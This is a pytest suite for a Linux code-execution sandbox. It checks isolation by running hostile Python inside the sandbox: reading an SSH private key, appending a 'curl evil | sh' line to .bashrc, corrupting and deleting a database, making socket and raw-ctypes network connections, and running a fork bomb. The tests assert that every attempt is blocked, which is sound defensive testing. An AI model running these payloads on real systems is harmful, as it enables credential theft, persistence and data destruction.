"""The code sandbox: results, limits and isolation, each checked by running hostile code."""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from datagen_core.errors import DatagenError
from datagen_core.sandbox import (
    SandboxUnavailableError,
    arun_python,
    assemble_program,
    check_program,
    run_python,
    sandbox_mechanisms,
)

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")
REPO = Path(__file__).resolve().parents[1]
ROOT = os.geteuid() == 0


@pytest.fixture(scope="module")
def mechanisms() -> set[str]:
    return sandbox_mechanisms()


def _world_runnable(path: str) -> bool:
    real = Path(path).resolve()
    return real.is_file() and all(p.stat().st_mode & 0o001 for p in [real, *real.parents])


def _world_readable(path: Path) -> bool:
    real = path.resolve()
    return bool(real.stat().st_mode & 0o004) and all(p.stat().st_mode & 0o001
                                                     for p in real.parents)


def _live_pids_of(uid: int) -> list[int]:
    psutil = pytest.importorskip("psutil")
    return [
        p.pid
        for p in psutil.process_iter(["uids", "status"])
        if p.info["uids"] and p.info["uids"].real == uid and p.info["status"] != "zombie"
    ]


def test_correct_solution_passes() -> None:
    result = check_program("def add(a, b):\n    return a + b", ["assert add(1, 2) == 3"])
    assert result.status == "passed" and result.passed and result.returncode == 0


def test_failing_assert_fails() -> None:
    result = check_program("def add(a, b):\n    return a - b", "assert add(1, 2) == 3")
    assert result.status == "failed"
    assert "AssertionError" in result.stderr


def test_humaneval_style_check_and_setup() -> None:
    tests = "def check(candidate):\n    assert candidate(4) == 2.0"
    program = assemble_program("def root(x):\n    return sqrt(x)", tests, "from math import sqrt",
                               "check(root)")
    assert program.index("from math") < program.index("def root") < program.index("check(root)")
    assert check_program("def root(x):\n    return sqrt(x)", tests, "from math import sqrt",
                         "check(root)").passed


def test_syntax_error_fails_with_message() -> None:
    result = run_python("def f(:\n    pass")
    assert result.status in ("failed", "error")
    assert "SyntaxError" in result.stderr


def test_stdin_is_passed() -> None:
    assert run_python("print(input() * 2)", stdin="ab\n").stdout == "abab\n"


def test_infinite_loop_times_out() -> None:
    result = run_python("while True:\n    pass", timeout_s=1)
    assert result.status == "timeout"
    assert 1 <= result.duration_s < 1 + 1.5


def test_background_child_does_not_outlive_the_run() -> None:
    code = "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\nprint('done')"
    result = run_python(code, timeout_s=5)
    assert result.status == "passed" and result.duration_s < 2


def test_fork_bomb_is_contained(mechanisms: set[str]) -> None:
    if ROOT and "uid" not in mechanisms:
        pytest.skip("as root without a uid drop RLIMIT_NPROC would not bind")
    code = (
        "import os, sys\n"
        "print(os.getuid(), flush=True)\n"
        "if os.getuid() == 0:\n"
        "    sys.exit('refusing to fork-bomb as root')\n"
        "while True:\n"
        "    try:\n"
        "        os.fork()\n"
        "    except OSError:\n"
        "        pass\n"
    )
    result = run_python(code, timeout_s=2, max_procs=16)
    assert result.status in ("timeout", "failed")
    assert result.duration_s < 2 + 2
    uid = int(result.stdout.split()[0])
    if ROOT:  # a per-run uid: every live process of it must be gone
        assert _live_pids_of(uid) == []


def test_large_allocation_hits_the_memory_limit() -> None:
    result = run_python("x = bytearray(4 * 1024**3)", memory_mb=256)
    assert result.status == "memory"


def test_no_writes_outside_the_sandbox(tmp_path: Path) -> None:
    outside = Path("/tmp") / f"outside-{uuid.uuid4().hex}"
    in_repo = REPO / f"sandbox-escape-{uuid.uuid4().hex}"
    code = (
        "import os\n"
        f"for path in [{str(outside)!r}, {str(in_repo)!r}]:\n"
        "    try:\n"
        "        with open(path, 'w') as f:\n"
        "            f.write('x')\n"
        "        print('wrote', path)\n"
        "    except OSError as e:\n"
        "        print('refused', path, type(e).__name__)\n"
    )
    try:
        result = run_python(code)
        assert result.status == "passed", result.stderr
        assert not outside.exists() and not in_repo.exists()
        if ROOT:
            # PermissionError (the dropped uid may not write there), or FileNotFoundError when
            # the checkout lives under /tmp, which the sandbox replaces with a private tmpfs
            assert re.search(rf"refused {re.escape(str(in_repo))} "
                             r"(PermissionError|FileNotFoundError)", result.stdout), result.stdout
    finally:
        for path in (outside, in_repo):
            path.unlink(missing_ok=True)


def test_fresh_private_cwd_and_home_are_removed() -> None:
    marker = f"marker-{uuid.uuid4().hex}"
    code = (
        "import os\n"
        "assert os.getcwd() == os.environ['HOME'] == os.environ['TMPDIR']\n"
        "assert os.listdir('.') == ['main.py'], os.listdir('.')\n"
        f"open({marker!r}, 'w').write('x')\n"
        "print(os.getuid())\n"
    )
    result = run_python(code)
    assert result.status == "passed", result.stderr
    if ROOT:
        assert int(result.stdout) != 0
    leftovers = [p for p in Path(os.environ.get("TMPDIR", "/tmp")).glob("datagen-sandbox-*/*")
                 if p.name == marker]
    assert leftovers == []


def test_no_network(mechanisms: set[str]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        code = (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "    print('connected')\n"
            "except OSError as e:\n"
            "    print('refused', type(e).__name__, e)\n"
        )
        result = run_python(code)
        assert result.status == "passed", result.stderr
        assert "refused" in result.stdout
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    if sys.platform == "linux" and ROOT:
        assert "netns" in mechanisms


def test_without_isolation_it_refuses_unless_the_risk_is_accepted(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Without a mount namespace the dropped uid needs a python it can reach (pyenv's is in /root).
    candidates = ["/usr/bin/python3", "/usr/local/bin/python3"] if ROOT else [sys.executable]
    python = next((os.path.realpath(c) for c in candidates if _world_runnable(c)), None)
    if python is None:
        pytest.skip("no python that the sandbox uid can run")
    monkeypatch.setenv("DATAGEN_SANDBOX_NO_BWRAP", "1")
    monkeypatch.setenv("DATAGEN_SANDBOX_NO_NS", "1")
    monkeypatch.setenv("DATAGEN_SANDBOX_PYTHON", python)
    code = "import socket\nsocket.create_connection(('127.0.0.1', 9), timeout=1)"
    refusal = r"install bubblewrap.*DATAGEN_SANDBOX_UNSAFE=1"
    with pytest.raises(SandboxUnavailableError, match=refusal):
        run_python(code)
    with pytest.raises(SandboxUnavailableError):
        check_program("x = 1", ["assert x == 1"])
    assert issubclass(SandboxUnavailableError, DatagenError)

    monkeypatch.setenv("DATAGEN_SANDBOX_UNSAFE", "1")  # the weak mode: an audit hook
    result = run_python(code)
    assert result.status == "failed"
    assert "PermissionError: socket.connect is not allowed" in result.stderr
    assert sandbox_mechanisms() >= {"audit-hook"}


def test_environment_is_scrubbed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-very-secret")
    monkeypatch.setenv("DATAGEN_SOMETHING", "private")
    result = run_python("import os\nprint(sorted(os.environ.items()))")
    assert result.status == "passed"
    assert "OPENAI_API_KEY" not in result.stdout and "sk-very-secret" not in result.stdout
    assert "private" not in result.stdout


def test_output_is_truncated() -> None:
    result = run_python("print('x' * 1_000_000)\nprint('END')", max_output_bytes=1000)
    assert result.status == "passed"
    assert len(result.stdout) < 1100
    assert "truncated" in result.stdout and result.stdout.endswith("END\n")


async def test_concurrent_runs() -> None:
    results = await asyncio.gather(*(arun_python(f"print({i} * {i})", timeout_s=30)
                                     for i in range(20)))
    assert [r.status for r in results] == ["passed"] * 20
    assert [r.stdout for r in results] == [f"{i * i}\n" for i in range(20)]


# ---- hostile code against a user's files and the network, as root and as an unprivileged user

NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"  # stdlib only: runnable by any uid, unlike pyenv under /root
AS_USER = REPO / "tests" / "sandbox_as_user.py"
needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap is not installed (apt install bubblewrap)")
HOSTILE = """\
import ctypes, json, os, socket, struct
done = {}
def attempt(name, fn):
    try:
        fn()
        done[name] = 'DONE'
    except BaseException as e:
        done[name] = type(e).__name__
def c_connect():  # straight to libc: no audit hook sees it
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), 'socket')
    addr = struct.pack('=H', socket.AF_INET) + struct.pack('!H', PORT)
    addr += socket.inet_aton('127.0.0.1') + bytes(8)
    if libc.connect(fd, ctypes.c_char_p(addr), len(addr)) != 0:
        raise OSError(ctypes.get_errno(), 'connect')
attempt('read_key', lambda: print(open(HOME + '/.ssh/id_rsa').read()))
attempt('read_bashrc', lambda: print(open(HOME + '/.bashrc').read()))
attempt('append_bashrc', lambda: open(HOME + '/.bashrc', 'a').write('curl evil | sh\\n'))
attempt('list_home', lambda: print(os.listdir(HOME)))
attempt('read_db', lambda: print(open(WS + '/datagen.duckdb', 'rb').read()))
attempt('write_db', lambda: open(WS + '/datagen.duckdb', 'r+b').write(b'XXXX'))
attempt('delete_db', lambda: os.unlink(WS + '/datagen.duckdb'))
attempt('create_in_workspace', lambda: open(WS + '/evil.py', 'w').write('x'))
attempt('write_tmp', lambda: open(OUTSIDE, 'w').write('x'))
attempt('socket_connect', lambda: socket.create_connection(('127.0.0.1', PORT), timeout=2))
attempt('ctypes_connect', c_connect)
print('REPORT', json.dumps(done))
"""


@pytest.fixture
def victim() -> Iterator[dict[str, Any]]:
    """A user's home (an SSH key, a .bashrc) and workspace (a DuckDB file), outside /tmp, which
    the old sandbox's mount namespace hid (a real home is never under /tmp)."""
    base = Path("/home") if ROOT and os.access("/home", os.W_OK) else None
    top = Path(tempfile.mkdtemp(prefix="datagen-victim-", dir=base))
    home, ws = top / "home", top / "workspace"
    (home / ".ssh").mkdir(parents=True)
    ws.mkdir()
    secret = f"-----BEGIN OPENSSH PRIVATE KEY----- {uuid.uuid4().hex}"
    (home / ".ssh" / "id_rsa").write_text(secret)
    (home / ".bashrc").write_text("# the user's bashrc\n")
    (ws / "datagen.duckdb").write_bytes(b"DUCK" + uuid.uuid4().bytes)
    os.chmod(top, 0o755)
    os.chmod(home, 0o755)
    os.chmod(home / ".ssh", 0o700)
    os.chmod(home / ".ssh" / "id_rsa", 0o600)
    files = {p: p.read_bytes() for p in [home / ".bashrc", ws / "datagen.duckdb"]}
    try:
        yield {"top": top, "home": home, "ws": ws, "secret": secret, "files": files}
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _give_to(path: Path, uid: int) -> None:
    for p in [path, *path.rglob("*")]:
        os.lchown(p, uid, uid)


def _as_user(uid: int, request: dict[str, Any], env: dict[str, str] | None = None,
             home: str = "/nonexistent") -> dict[str, Any]:
    """Run tests/sandbox_as_user.py as ``uid`` with the system Python; its JSON report."""
    proc = subprocess.run(
        [SYSTEM_PYTHON, "-I", str(AS_USER), json.dumps(request)], user=uid, group=uid,
        extra_groups=[], capture_output=True, text=True, cwd="/", timeout=120,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": home, **(env or {})})
    assert proc.returncode == 0, proc.stderr
    report: dict[str, Any] = json.loads(proc.stdout.strip().splitlines()[-1])
    return report


as_nobody = pytest.mark.skipif(
    not ROOT or not _world_runnable(SYSTEM_PYTHON) or not _world_readable(AS_USER),
    reason="switching to an unprivileged user needs root and a python every uid can run")


def _check_contained(victim: dict[str, Any], stdout: str, outside: Path,
                     listener: socket.socket) -> None:
    report = json.loads(stdout.split("REPORT ", 1)[1])
    # /tmp inside is the sandbox's own tmpfs: writing there is fine, it must not reach the host
    assert all(v != "DONE" for k, v in report.items() if k != "write_tmp"), report
    assert victim["secret"] not in stdout
    for path, content in victim["files"].items():
        assert path.read_bytes() == content, path
    assert sorted(p.name for p in victim["ws"].iterdir()) == ["datagen.duckdb"]
    assert not outside.exists()
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()


def _hostile(victim: dict[str, Any], port: int, outside: Path) -> str:
    consts = (f"HOME, WS = {str(victim['home'])!r}, {str(victim['ws'])!r}\n"
              f"PORT, OUTSIDE = {port}, {str(outside)!r}\n")
    return consts + HOSTILE


@needs_bwrap
def test_hostile_code_cannot_reach_the_users_files_or_network(victim: dict[str, Any]) -> None:
    """As the user running this (root here and in CI): the key, the .bashrc, the workspace and
    its database are not even visible; no connection gets out, through socket or ctypes."""
    outside = Path("/tmp") / f"outside-{uuid.uuid4().hex}"
    try:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            code = _hostile(victim, listener.getsockname()[1], outside)
            result = run_python(code, timeout_s=20)
            assert result.status == "passed", result.stderr
            _check_contained(victim, result.stdout, outside, listener)
        assert {"bwrap", "netns", "mountns"} <= sandbox_mechanisms()
    finally:
        outside.unlink(missing_ok=True)


@needs_bwrap
@as_nobody
def test_hostile_code_cannot_reach_an_unprivileged_users_files_or_network(
        victim: dict[str, Any]) -> None:
    """The same as an ordinary user (nobody) whose own files these are: file permissions do not
    help here, only what the sandbox lets the code see."""
    _give_to(victim["top"], NOBODY)
    outside = Path("/tmp") / f"outside-{uuid.uuid4().hex}"
    try:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            code = _hostile(victim, listener.getsockname()[1], outside)
            report = _as_user(NOBODY, {"code": code}, home=str(victim["home"]))
            assert report.get("status") == "passed", report
            _check_contained(victim, report["stdout"], outside, listener)
        mechanisms = _as_user(NOBODY, {"mechanisms": True})["mechanisms"]
        assert {"bwrap", "netns", "mountns", "userns"} <= set(mechanisms)
        assert "uid" not in mechanisms
    finally:
        outside.unlink(missing_ok=True)


@as_nobody
def test_unprivileged_user_without_bwrap_is_refused_unless_the_risk_is_accepted() -> None:
    report = _as_user(NOBODY, {"code": "print('ran')"}, env={"DATAGEN_SANDBOX_NO_BWRAP": "1"})
    assert report.get("error") == "SandboxUnavailableError", report
    assert "install bubblewrap" in report["message"]
    assert "DATAGEN_SANDBOX_UNSAFE=1" in report["message"]
    report = _as_user(NOBODY, {"code": "print('ran')"},
                      env={"DATAGEN_SANDBOX_NO_BWRAP": "1", "DATAGEN_SANDBOX_UNSAFE": "1"})
    assert report.get("status") == "passed" and report["stdout"] == "ran\n", report


@pytest.mark.skipif(not ROOT, reason="the namespace fallback is root's")
def test_root_without_bwrap_falls_back_to_namespaces_and_a_uid(
        monkeypatch: pytest.MonkeyPatch, victim: dict[str, Any]) -> None:
    """The fallback sees the host's files, but as a uid that owns none of them, and has no
    network at all."""
    monkeypatch.setenv("DATAGEN_SANDBOX_NO_BWRAP", "1")
    assert {"netns", "mountns", "uid"} <= sandbox_mechanisms()
    outside = Path("/tmp") / f"outside-{uuid.uuid4().hex}"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        result = run_python(_hostile(victim, listener.getsockname()[1], outside), timeout_s=20)
        assert result.status == "passed", result.stderr
        report = json.loads(result.stdout.split("REPORT ", 1)[1])
        readable = {"read_bashrc", "read_db", "list_home", "write_tmp"}  # visible here / private
        assert all(v != "DONE" for k, v in report.items() if k not in readable), report
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert victim["secret"] not in result.stdout
    for path, content in victim["files"].items():
        assert path.read_bytes() == content
    assert not outside.exists()


def test_code_scorer_reports_a_missing_sandbox_instead_of_scoring_zero(
        monkeypatch: pytest.MonkeyPatch) -> None:
    from students.tasks.code import HumanEval

    monkeypatch.setenv("DATAGEN_SANDBOX_NO_BWRAP", "1")
    monkeypatch.setenv("DATAGEN_SANDBOX_NO_NS", "1")
    task = HumanEval()
    with pytest.raises(SandboxUnavailableError):
        asyncio.run(task.score([], [], None))  # type: ignore[arg-type]
